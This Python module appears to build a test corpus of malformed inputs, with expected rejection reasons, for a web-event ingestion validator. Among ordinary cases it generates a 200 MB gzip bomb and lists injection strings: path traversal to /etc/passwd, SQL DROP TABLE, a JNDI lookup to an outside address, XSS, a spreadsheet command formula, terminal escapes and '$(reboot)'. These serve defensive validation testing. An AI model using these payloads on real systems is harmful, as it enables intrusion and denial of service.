"""The corpus: name -> (bytes, expected reason; None for a record that is accepted after all).

Made, not stored: one payload is a mebibyte, one a bomb of 200 MB, and the bytes of others are no text.
"""

import gzip
import json
import zlib
from collections.abc import Iterator
from typing import Any

GOOD: dict[str, Any] = {
    "event_type": "page_viewed",
    "event_id": "01927f2e-7b1c-7abc-8def-0123456789ab",
    "schema_version": 1,
    "event_time": "2026-11-24T10:11:12.123Z",
    "source": "simulator",
    "producer_id": "p-1",
    "epoch": 1732444800000,
    "seq": 123,
    "payload": {
        "url": "https://shop.example/products/17?ref=mail",
        "client_address": "203.0.113.9",
        "status": 200,
        "user_agent": "Mozilla/5.0 (X11; Linux x86_64) Firefox/120.0",
        "user_id": "user-4711",
    },
}
ARRIVAL_MS = 1_795_515_075_000
"""2026-11-24T10:11:15Z."""
LARGEST = 1_048_576

Case = tuple[str, bytes, str | None]


def encode(event: Any) -> bytes:
    """Compact JSON, as producers write it."""
    return json.dumps(event, separators=(",", ":"), ensure_ascii=False).encode()


def changed(**members: Any) -> bytes:
    """The good event with these members of the envelope."""
    return encode({**GOOD, **members})


def paid(**members: Any) -> bytes:
    """The good event with these members of the payload."""
    return encode({**GOOD, "payload": {**GOOD["payload"], **members}})


def without(*names: str) -> bytes:
    """The good event without these members of the envelope."""
    return encode({name: value for name, value in GOOD.items() if name not in names})


def unpaid(*names: str) -> bytes:
    """The good event without these members of the payload."""
    payload = {name: value for name, value in GOOD["payload"].items() if name not in names}
    return encode({**GOOD, "payload": payload})


def spliced(text: bytes, place: bytes = b'"status":200') -> bytes:
    """The good event with this text where `place` stands."""
    good = encode(GOOD)
    assert place in good
    return good.replace(place, text)


def corpus() -> Iterator[Case]:
    """Every payload."""
    for family in (_bytes, _json, _numbers, _texts, _envelope, _times, _payload, _injections, _many):
        yield from family()


def _bytes() -> Iterator[Case]:
    good = encode(GOOD)
    yield "empty", b"", "empty"
    yield "only spaces", b" \t\r\n ", "empty"
    yield "one NUL", b"\0", "not_json"
    yield "many NULs", b"\0" * 100_000, "not_json"
    yield "random bytes", bytes(range(256)) * 4, "not_json"
    yield "all 0xff", b"\xff" * 1000, "not_json"
    yield "latin-1", good.replace(b"user-4711", b"caf\xe9"), "not_utf8"
    yield "latin-1 in an unknown member", good[:-1] + b',"note":"caf\xe9"}', "not_utf8"
    yield "latin-1 in an unknown name", good[:-1] + b',"caf\xe9":1}', "not_utf8"
    yield "overlong UTF-8", good.replace(b"user-4711", b"\xc0\xaf"), "not_utf8"
    yield "UTF-8 surrogate", good.replace(b"user-4711", b"\xed\xa0\x80"), "not_utf8"
    yield "cut inside a character", good.replace(b"user-4711", b"\xe2\x82"), "not_utf8"
    yield "beyond Unicode", good.replace(b"user-4711", b"\xf4\x90\x80\x80"), "not_utf8"
    yield "UTF-16", good.decode().encode("utf-16"), "not_json"
    yield "UTF-32", good.decode().encode("utf-32"), "not_json"
    yield "byte order mark", b"\xef\xbb\xbf" + good, "not_json"
    yield "gzip of an event", gzip.compress(good), "compressed"
    yield "gzip bomb", _bomb(200_000_000), "compressed"
    yield "two gzip members", gzip.compress(good) + gzip.compress(good), "compressed"
    yield "cut gzip", gzip.compress(good)[:40], "compressed"
    yield "KPL aggregate", b"\xf3\x89\x9a\xc2" + bytes(60), "aggregated"
    yield "an image", b"\x89PNG\r\n\x1a\n" + bytes(200), "not_json"
    yield "1 MiB of one letter", b"a" * LARGEST, "not_json"
    yield "larger than a record", b" " + b"a" * LARGEST, "too_large"
    yield "1 MiB in an unknown member", good[:-1] + b',"x":"' + b"y" * (LARGEST - len(good) - 7) + b'"}', None
    yield "trailing newline", good + b"\n", None
    yield "leading spaces", b"   " + good, None


def _bomb(size: int) -> bytes:
    """Gzip of `size` zero bytes, made in pieces."""
    squeeze = zlib.compressobj(9, wbits=31)
    piece = bytes(1_000_000)
    return b"".join([squeeze.compress(piece) for _ in range(size // len(piece))]) + squeeze.flush()


def _json() -> Iterator[Case]:
    good = encode(GOOD)
    yield "cut in half", good[: len(good) // 2], "not_json"
    yield "without the last brace", good[:-1], "not_json"
    yield "an extra brace", good + b"}", "not_json"
    yield "a trailing comma", good[:-1] + b",}", "not_json"
    yield "single quotes", good.replace(b'"', b"'"), "not_json"
    yield "a comment", b"/* x */" + good, "not_json"
    yield "unquoted name", spliced(b"status:200"), "not_json"
    yield "null", b"null", "wrong_type"
    yield "true", b"true", "wrong_type"
    yield "a number", b"42", "wrong_type"
    yield "a text", b'"event"', "wrong_type"
    yield "an array", b"[" + good + b"]", "wrong_type"
    yield "an empty object", b"{}", "missing_field"
    yield "an empty array", b"[]", "wrong_type"
    yield "100,000 opened arrays", b"[" * 100_000, "wrong_type"
    yield "100,000 opened objects", b'{"a":' * 100_000, "too_deep"
    yield (
        "deep arrays in an unknown member",
        good[:-1] + b',"x":' + b"[" * 100_000 + b"]" * 100_000 + b"}",
        "too_deep",
    )
    yield "deep arrays in the payload", spliced(b'"status":' + b"[" * 50_000 + b"]" * 50_000), "too_deep"
    yield (
        "2,000 deep in an unknown member",
        good[:-1] + b',"x":' + b"[" * 2000 + b"]" * 2000 + b"}",
        "too_deep",
    )
    yield "duplicated member", good[:-1] + b',"seq":124}', "duplicate_key"
    yield "duplicated member, same value", good[:-1] + b',"seq":123}', "duplicate_key"
    yield "duplicated in the payload", spliced(b'"status":200,"status":404'), "duplicate_key"
    yield "duplicated unknown member", good[:-1] + b',"x":1,"x":2}', "duplicate_key"
    yield "duplicated deep inside", good[:-1] + b',"x":{"y":[{"z":1,"z":2}]}}', "duplicate_key"
    yield "duplicated by escape", good[:-1] + b',"s\\u0065q":124}', "duplicate_key"
    yield "duplicated payload", good[:-1] + b',"payload":{}}', "missing_field"
    yield "duplicated id", good[:-1] + b',"event_id":"01927f2e-7b1c-7abc-8def-ffffffffffff"}', "duplicate_key"
    yield "unknown member", good[:-1] + b',"x":1}', None
    yield "pretty printed", json.dumps(GOOD, indent=2).encode(), None


def _numbers() -> Iterator[Case]:
    yield "5,000-digit integer", spliced(b'"status":' + b"9" * 5000), "out_of_range"
    yield "5,000 digits in an unknown member", encode(GOOD)[:-1] + b',"x":' + b"9" * 5000 + b"}", None
    yield "200,000 digits in an unknown member", encode(GOOD)[:-1] + b',"x":' + b"9" * 200_000 + b"}", None
    yield "2 to the 70", spliced(b'"status":1180591620717411303424'), "out_of_range"
    yield "2 to the 53 in seq", changed(seq=2**53), "out_of_range"
    yield "2 to the 64 in epoch", changed(epoch=2**64), "out_of_range"
    yield "negative seq", changed(seq=-1), "out_of_range"
    yield "NaN", spliced(b'"status":NaN'), "not_json"
    yield "Infinity", spliced(b'"status":Infinity'), "not_json"
    yield "minus Infinity", spliced(b'"status":-Infinity'), "not_json"
    yield "1e400", spliced(b'"status":1e400'), "out_of_range"
    yield "1e400 in an unknown member", encode(GOOD)[:-1] + b',"x":1e400}', None
    yield "a fraction", spliced(b'"status":200.5'), "wrong_type"
    yield "a whole fraction", spliced(b'"status":200.0'), "wrong_type"
    yield "an exponent", spliced(b'"status":2e2'), "wrong_type"
    yield "a leading zero", spliced(b'"status":0200'), "not_json"
    yield "hexadecimal", spliced(b'"status":0xC8'), "not_json"
    yield "a number as text", paid(status="200"), "wrong_type"
    yield "true as a number", paid(status=True), "wrong_type"
    yield "status 99", paid(status=99), "out_of_range"
    yield "status 600", paid(status=600), "out_of_range"


def _texts() -> Iterator[Case]:
    yield "lone high surrogate", spliced(b'"status":200,"user_id":"\\ud800"'), "not_utf8"
    yield "lone low surrogate", spliced(b'"status":200,"referrer":"\\udc00"'), "not_utf8"
    yield "surrogate in an unknown member", encode(GOOD)[:-1] + b',"x":"\\ud800"}', "not_json"
    yield "bad escape", spliced(b'"status":200,"referrer":"\\x41"'), "not_json"
    yield "raw newline in a text", spliced(b'"status":200,"referrer":"a\nb"'), "not_json"
    yield "NUL in a text", paid(referrer="a\0b"), None
    yield "a huge text", paid(url="https://shop.example/" + "x" * 900_000), "wrong_length"
    yield "a huge user agent", paid(user_agent="Mozilla/5.0 " + "x" * 500_000), "wrong_length"
    yield "an empty url", paid(url=""), "wrong_length"
    yield "an empty user id", paid(user_id=""), "wrong_length"
    yield "65 characters of user id", paid(user_id="u" * 65), "wrong_length"
    yield "right-to-left override", paid(referrer="https://x.example/\u202egnp.exe"), None
    yield "zero width joiners", paid(user_id="a\u200db\u200dc"), None
    yield "combining marks", paid(referrer="e" + "\u0301" * 200), None
    yield "emoji", paid(user_id="🦆" * 20), None
    yield "all of ASCII's controls", paid(referrer="".join(map(chr, range(1, 32)))), None


def _envelope() -> Iterator[Case]:
    for name in GOOD:
        yield f"without {name}", without(name), "missing_field"
        yield f"{name} null", changed(**{name: None}), "wrong_type"
    yield "unknown type", changed(event_type="page_burned"), "unknown_type"
    yield "type in capitals", changed(event_type="PAGE_VIEWED"), "unknown_type"
    yield "type with a space", changed(event_type="page_viewed "), "unknown_type"
    yield "huge type", changed(event_type="x" * 500_000), "unknown_type"
    yield "type is a number", changed(event_type=7), "wrong_type"
    yield "version 2", changed(schema_version=2), "unknown_version"
    yield "version 0", changed(schema_version=0), "unknown_version"
    yield "version as text", changed(schema_version="1"), "wrong_type"
    yield "id is no UUID", changed(event_id="x" * 36), "wrong_format"
    yield "id in capitals", changed(event_id=GOOD["event_id"].upper()), "wrong_format"
    yield "id with a newline", changed(event_id=GOOD["event_id"] + "\n"), "wrong_length"
    yield "short id", changed(event_id="01927f2e"), "wrong_length"
    yield "source with a slash", changed(source="a/b"), "wrong_format"
    yield "source with a newline", changed(source="web\n"), "wrong_format"
    yield "empty producer", changed(producer_id=""), "wrong_length"
    yield "65 characters of producer", changed(producer_id="p" * 65), "wrong_length"
    yield "sequence 0 of no audit event", changed(seq=0), "reserved_sequence"
    yield "payload is an array", changed(payload=[]), "wrong_type"
    yield "payload is a text", changed(payload="{}"), "wrong_type"
    yield (
        "forged columns",
        encode({**GOOD, "user_key": "x", "arrival_time": "y", "is_late": "z", "key_id": 1}),
        None,
    )
    yield "forged payload column", encode({**GOOD, "page_viewed": {"status": 500}}), None


def _times() -> Iterator[Case]:
    for name, time, reason in (
        ("year 1", "0001-01-01T00:00:00Z", "too_old"),
        ("year 1 east of Greenwich", "0001-01-01T00:00:00+23:59", "bad_time"),
        ("1970", "1970-01-01T00:00:00Z", "too_old"),
        ("31 days ago", "2026-10-24T10:00:00Z", "too_old"),
        ("year 9999", "9999-12-31T23:59:59Z", "too_new"),
        ("year 9999 west of Greenwich", "9999-12-31T23:59:59-23:59", "bad_time"),
        ("2099", "2099-01-01T00:00:00Z", "too_new"),
        ("in two hours", "2026-11-24T12:11:15Z", "too_new"),
        ("no zone", "2026-11-24T10:11:12.123", "wrong_format"),
        ("a date", "2026-11-24", "wrong_format"),
        ("30 February", "2026-02-30T10:00:00Z", "wrong_format"),
        ("month 13", "2026-13-01T10:00:00Z", "wrong_format"),
        ("hour 24", "2026-11-24T24:00:00Z", "wrong_format"),
        ("a leap second", "2026-11-24T10:11:60Z", "wrong_format"),
        ("year 10000", "10000-01-01T00:00:00Z", "wrong_format"),
        ("words", "yesterday", "wrong_format"),
        ("empty", "", "wrong_format"),
        ("Arabic digits", "٢٠٢٦-11-24T10:00:00Z", "wrong_format"),
        ("another zone", "2026-11-24T15:41:12.123+05:30", None),
        ("nanoseconds", "2026-11-24T10:11:12.123456789Z", None),
    ):
        yield f"time: {name}", changed(event_time=time), reason
    yield "time: epoch milliseconds", changed(event_time=1_795_515_072_123), "wrong_type"
    yield "time: epoch as text", changed(event_time="1795515072123"), "wrong_format"


def _payload() -> Iterator[Case]:
    for name in ("client_address", "status"):
        yield f"payload without {name}", unpaid(name), "missing_field"
    order = {"order_id": "o-1", "client_address": "203.0.113.9", "total_minor": 100, "currency": "EUR"}
    item = {"product_id": "sku-1", "quantity": 1, "price_minor": 100}

    def ordered(**members: Any) -> bytes:
        return changed(event_type="order_placed", payload={**order, "items": [item], **members})

    yield "no items", ordered(items=[]), "wrong_length"
    yield "501 items", ordered(items=[item] * 501), "wrong_length"
    yield "an item without product", ordered(items=[{"quantity": 1, "price_minor": 1}]), "missing_field"
    yield "the third item wrong", ordered(items=[item, item, {**item, "quantity": "1"}]), "wrong_type"
    yield "quantity 0", ordered(items=[{**item, "quantity": 0}]), "out_of_range"
    yield "currency in small letters", ordered(currency="eur"), "wrong_format"
    yield "negative total", ordered(total_minor=-1), "out_of_range"
    yield "another type's payload", changed(event_type="order_placed"), "missing_field"
    cart = {"cart_id": "c", "product_id": "p", "client_address": "::1", "quantity": 1}
    yield (
        "an action that is none",
        changed(event_type="cart_updated", payload={**cart, "action": "eaten"}),
        "not_allowed",
    )
    line = {"line": "GET / 203.0.113.9", "position": "access.log:17", "reason": "no closing quote"}
    yield "a line that was unreadable", changed(event_type="unreadable_line", payload=line), "unreadable_line"


INJECTIONS: tuple[tuple[str, str], ...] = (
    ("path", "../../etc/passwd"),
    ("partition", "event_hour=2026-11-24-10/../../x"),
    ("partition expression", "!{timestamp:yyyy}"),
    ("SQL", "'; DROP TABLE web_events; --"),
    ("SQL in a comment", "*/ UNION SELECT * FROM web_events /*"),
    ("log line", 'x","level":"ERROR","message":"forged'),
    ("second log line", 'x\n{"level":"ERROR","dropped_seqs":{"p-1/1":"1-999"}}'),
    ("lookup", "${jndi:ldap://198.51.100.1/a}"),
    ("template", "{{7*7}}${7*7}<%= 7*7 %>"),
    ("format", "%s%s%s%n"),
    ("script", "<script>alert(1)</script>"),
    ("spreadsheet", "=cmd|' /C calc'!A0"),
    ("terminal", "\x1b[2J\x1b]0;owned\x07"),
    ("shell", "$(reboot)`reboot`"),
)


def _injections() -> Iterator[Case]:
    for name, text in INJECTIONS:
        yield f"injection into source: {name}", changed(source=text), "wrong_format"
        yield f"injection into type: {name}", changed(event_type=text), "unknown_type"
        yield f"injection into user id: {name}", paid(user_id=text), None
    yield "injection into an unknown name", encode({**GOOD, "x'; DROP TABLE web_events; --": 1}), None


def _many() -> Iterator[Case]:
    good = encode(GOOD)
    other_hour = good.replace(b"T10:", b"T09:")
    beat = {"event_type": "heartbeat", "payload": {"host": "web-1", "uptime_seconds": 1}}
    yield "two events, one line each", good + b"\n" + good.replace(b":123,", b":124,"), None
    yield "two events, one line", good + good, "not_json"
    yield "two events, two hours", good + b"\n" + other_hour, "mixed_hours"
    yield "an event and a heartbeat", good + b"\n" + changed(**beat), "mixed_outcomes"
    yield "the second of three lines is bad", good + b"\n{oops\n" + good, "not_json"
    yield "joined by a comma", good + b"," + good, "not_json"
    yield "line feeds and carriage returns", good + b"\r\n\r\n" + good + b"\r\n", None
    yield "2,000 lines", b"\n".join([good] * 2000), None
